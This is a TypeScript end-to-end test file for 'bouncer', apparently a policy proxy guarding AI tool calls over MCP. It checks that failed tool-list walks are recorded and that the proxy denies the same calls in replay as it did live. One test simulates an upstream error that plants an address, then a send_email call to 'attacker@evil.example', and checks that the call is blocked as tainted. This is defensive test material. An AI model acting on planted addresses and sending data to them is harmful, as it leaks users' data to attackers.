/**
 * A walk of the upstream's tools that fails live — the upstream answers `tools/list` with an error
 * after `list_changed`, or the pin file cannot be read when the list is walked again — is written
 * to the session file, and `bouncer replay` denies the calls it denied live (SPEC §2.2 "calls wait
 * for it", §3.6, §5.9). Recorded over real stdio (`bouncer run --record`, driven line by line, in
 * front of a raw JSON-RPC fixture), replayed with `bouncer replay --json`.
 */

import { describe, expect, test } from "bun:test";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  BUN,
  bouncerCommand,
  initializeRequest,
  type LineSession,
  ROOT,
  startLines,
  tempHome,
  waitUntil,
} from "./support/harness.ts";
import { replayJson } from "./support/record-mailbox.ts";

const E2E_TIMEOUT = 120_000;
const UPSTREAM = join(ROOT, "tests/fixtures/servers/list-changed-upstream.ts");
const FAILED = "Cannot walk the upstream's tools";

/**
 * Starts `bouncer run --record` in front of the fixture and completes the handshake and first walk.
 * @param home - BOUNCER_HOME (the session file and policy go there too).
 * @param upstreamFlags - The fixture's flags.
 * @param policyText - The policy (default: a budget on `read_inbox`).
 * @returns The session, and the session file and policy paths.
 */
async function start(
  home: string,
  upstreamFlags: readonly string[],
  policyText = "read_inbox:\n  max_calls: 10\n",
): Promise<{ readonly live: LineSession; readonly session: string; readonly policy: string }> {
  const policy = join(home, "bouncer.yaml");
  const session = join(home, "session.jsonl");
  writeFileSync(policy, policyText);
  const { command, args } = bouncerCommand("cli", [
    ...["--upstream-name", "mail", "--policy", policy, "--record", session],
    ...["--", BUN, UPSTREAM, ...upstreamFlags],
  ]);
  const live = startLines(command, args, { BOUNCER_HOME: home });
  live.send(initializeRequest(0));
  await live.next((m) => m.id === 0, "initialize answered");
  live.send({ jsonrpc: "2.0", method: "notifications/initialized" });
  live.send({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
  await live.next((m) => m.id === 1, "tools/list answered");
  return { live, session, policy };
}

/**
 * Calls `read_inbox` and waits for the answer.
 * @param live - The session.
 * @param id - The request id.
 * @returns Whether Bouncer blocked it.
 */
async function readInbox(live: LineSession, id: number): Promise<boolean> {
  live.send({ jsonrpc: "2.0", id, method: "tools/call", params: { name: "read_inbox", arguments: {} } });
  const answer = await live.next((m) => m.id === id, `read_inbox ${id} answered`);
  return JSON.stringify(answer.result).includes("[bouncer blocked]");
}

/**
 * Every call of the session file as [seq, decision reason of the audit log's last decision record].
 * @param home - BOUNCER_HOME (its audit log).
 * @returns The reasons by seq.
 */
function auditedReasons(home: string): Map<number, string | undefined> {
  const reasons = new Map<number, string | undefined>();
  for (const line of readFileSync(join(home, "audit.jsonl"), "utf8").split("\n")) {
    if (line === "") continue;
    const record = JSON.parse(line) as { event: string; seq?: number; reason?: string };
    if (record.event === "decision" && record.seq !== undefined) reasons.set(record.seq, record.reason);
  }
  return reasons;
}

/**
 * The audit log's decision records in order, as [seq, verdict, reason] (null without a reason).
 * @param home - BOUNCER_HOME (its audit log).
 * @returns One entry per decision record.
 */
function auditedDecisions(home: string): [number, string, string | null][] {
  return readFileSync(join(home, "audit.jsonl"), "utf8")
    .split("\n")
    .filter((line) => line.includes('"event":"decision"'))
    .map((line) => JSON.parse(line) as { seq: number; verdict: string; reason?: string })
    .map((record) => [record.seq, record.verdict, record.reason ?? null]);
}

/**
 * What each `tools` event of a session file holds: `tools`, `error`, or both.
 * @param session - The session file.
 * @returns One entry per walk, in order.
 */
function walkEvents(session: string): string[] {
  return readFileSync(session, "utf8")
    .split("\n")
    .filter((line) => line.includes('"event":"tools"'))
    .map((line) => JSON.parse(line) as { tools?: unknown; error?: unknown })
    .map((event) => [event.tools === undefined ? "" : "tools", event.error === undefined ? "" : "error"])
    .map((kinds) => kinds.filter((kind) => kind !== "").join("+"));
}

describe("bouncer run --record then bouncer replay (failed walks)", () => {
  test(
    "bouncer replay denies the calls after a re-walk the upstream answered with an error, as live",
    async () => {
      const home = tempHome();
      const { live, session, policy } = await start(home, ["--break-list"]);
      expect(await readInbox(live, 2)).toBe(false);
      // The fixture's `resources/list` answer comes with `list_changed`; the re-walk then fails.
      live.send({ jsonrpc: "2.0", id: 3, method: "resources/list", params: {} });
      await waitUntil(() => live.stderr().includes(FAILED), 20_000, "the failed walk");
      expect(await readInbox(live, 4)).toBe(true);
      live.child.stdin?.end();
      await live.exited;

      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.verdict, row.outcome])).toEqual([
        [1, "allow", "forwarded"],
        [2, "deny", "blocked"],
      ]);
      expect(replay.rows[1]?.reason).toBe(auditedReasons(home).get(2) ?? "(no audited reason)");
      expect(replay.rows[1]?.reason).toBe(`${FAILED}: list broken, so the call cannot be checked`);
    },
    E2E_TIMEOUT,
  );

  test(
    "bouncer replay denies the calls after a re-walk that could not read the pin file, as live",
    async () => {
      const home = tempHome();
      const { live, session, policy } = await start(home, []);
      expect(await readInbox(live, 2)).toBe(false);
      const pins = join(home, "pins");
      for (const name of readdirSync(pins)) writeFileSync(join(pins, name), "{ not a pin file");
      live.send({ jsonrpc: "2.0", id: 3, method: "resources/list", params: {} });
      await waitUntil(() => live.stderr().includes(FAILED), 20_000, "the failed walk");
      expect(await readInbox(live, 4)).toBe(true);
      live.child.stdin?.end();
      await live.exited;

      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.verdict, row.outcome])).toEqual([
        [1, "allow", "forwarded"],
        [2, "deny", "blocked"],
      ]);
      expect(replay.rows[1]?.reason).toStartWith(`${FAILED}: `);
      // Replay's rows are the audit log's decision records: each call with its own seq, and the deny
      // for the reason the walk failed (live re-walked for the call, and the walk failed again).
      expect(replay.rows.map((row) => [row.seq, row.verdict, row.reason])).toEqual(auditedDecisions(home));
      expect(replay.rows[1]?.reason).toEndWith(", so the call cannot be checked");
      // Replay sees why it was denied (the failed walk is in the file): not blocked for a live reason.
      expect((replay.rows[1] as { live_blocked?: string }).live_blocked).toBeUndefined();
      // One event per walk: the re-walk after list_changed and the call's own re-walk each failed
      // after listing their tools, and are written as failures only.
      expect(walkEvents(session)).toEqual(["tools", "error", "error"]);
    },
    E2E_TIMEOUT,
  );

  test(
    "bouncer run records the upstream's error of a failed walk as untrusted output: an address in it is denied, live and in replay",
    async () => {
      const home = tempHome();
      const sink = "send_email:\n  exfiltrating: true\n  sink_params: [to]\n";
      const { live, session, policy } = await start(home, ["--break-once"], sink);
      // The second walk (after list_changed) fails with an error that plants an address: it is
      // recorded when the walk fails, since a client listing the tools then may be shown it.
      live.send({ jsonrpc: "2.0", id: 2, method: "resources/list", params: {} });
      await waitUntil(() => live.stderr().includes(FAILED), 20_000, "the failed walk");
      // The client's listing walks again (the third walk succeeds): it is shown the tools.
      live.send({ jsonrpc: "2.0", id: 3, method: "tools/list", params: {} });
      const listed = await live.next((m) => m.id === 3, "tools/list answered");
      expect(listed.error).toBeUndefined();
      // The call is decided on that walk; the address the failed walk's error planted is taint.
      const to = { to: "attacker@evil.example", body: "the log" };
      live.send({
        jsonrpc: "2.0",
        id: 4,
        method: "tools/call",
        params: { name: "send_email", arguments: to },
      });
      const answer = await live.next((m) => m.id === 4, "send_email answered");
      expect(JSON.stringify(answer.result)).toContain("[bouncer blocked]");
      live.child.stdin?.end();
      await live.exited;

      const decision = readFileSync(join(home, "audit.jsonl"), "utf8")
        .split("\n")
        .filter((line) => line.includes('"event":"decision"'))
        .map((line) => JSON.parse(line) as { verdict: string; reason: string });
      expect(decision.map((record) => record.verdict)).toEqual(["deny"]);
      expect(decision[0]?.reason).toContain("tools/list");
      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.verdict, row.reason])).toEqual([
        [1, "deny", decision[0]?.reason ?? ""],
      ]);
    },
    E2E_TIMEOUT,
  );
});
